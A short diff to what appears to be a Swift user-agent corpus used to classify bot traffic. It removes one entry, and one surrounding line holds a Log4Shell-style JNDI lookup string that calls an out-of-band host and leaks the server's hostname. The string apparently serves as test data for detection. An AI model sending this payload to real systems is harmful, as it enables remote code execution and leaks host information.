@@ -536,7 +536,6 @@ enum UserAgentCorpus {
         C.bot("Seobility", "unidentified"),
         C.bot("Castopod/1.0", "unidentified"),
         C.bot("Mozilla/5.0 (compatible; Dormouse/1.0)", "unidentified"),
-        C.bot("Mozilla/5.0 SeznamEmailProxy/2.0.174", "unidentified"),
         C.bot("collectd/5.5.1", "unidentified"),
         C.bot("Grafana/11.1.0", "unidentified"),
         C.bot("${jndi:ldap://${hostName}.useragent.example.oast.live}", "unidentified"),
